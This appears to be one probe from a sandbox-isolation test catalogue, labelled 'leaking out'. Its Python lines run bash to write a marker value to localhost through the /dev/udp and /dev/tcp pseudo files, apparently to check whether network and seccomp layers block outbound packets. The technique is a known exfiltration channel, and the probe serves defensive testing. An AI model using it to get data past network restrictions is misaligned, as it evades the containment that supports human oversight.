# /// attack
# catalogue = "leaking out: DNS"
# layers = ["network", "seccomp"]
# aim = "packet"
# ///
# Talks through the pseudo files that a shell offers for connections.

# %%
import subprocess

subprocess.run(["bash", "-c", f"echo {TARGET['mark']} > /dev/udp/127.0.0.1/{TARGET['udp']}"], timeout=5)
subprocess.run(["bash", "-c", f"echo {TARGET['mark']} > /dev/tcp/127.0.0.1/{TARGET['tcp']}"], timeout=5)
